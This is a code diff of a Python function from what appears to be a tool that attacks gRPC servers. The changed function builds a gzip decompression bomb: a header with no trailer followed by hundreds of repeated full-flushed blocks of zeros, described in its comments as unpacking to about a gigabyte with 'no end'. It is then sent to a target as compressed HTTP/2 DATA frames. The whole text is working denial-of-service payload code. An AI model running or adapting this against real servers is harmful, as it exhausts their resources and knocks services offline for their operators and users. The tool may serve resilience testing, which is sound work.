@@ -143,9 +143,10 @@ def fds(target, until):
 
 
 def gzip(target, until):
-    """A message of 2 MB that unpacks to 2 GB."""
-    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
-    packed = b"".join(packer.compress(bytes(MIB)) for _ in range(1000)) + packer.flush()
+    """A message of 1 MB that unpacks to 1 GB."""
+    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
+    block = packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)  # stands for itself
+    packed = b"\x1f\x8b\x08" + bytes(7) + block * 900  # what unpacks it meets no end
     body = message(packed, flags=1)
     headers = request(target.method, literal(b"grpc-encoding", b"gzip"))
     pieces = [frame(DATA, 0, 1, body[at:at + 16384]) for at in range(0, len(body), 16384)]
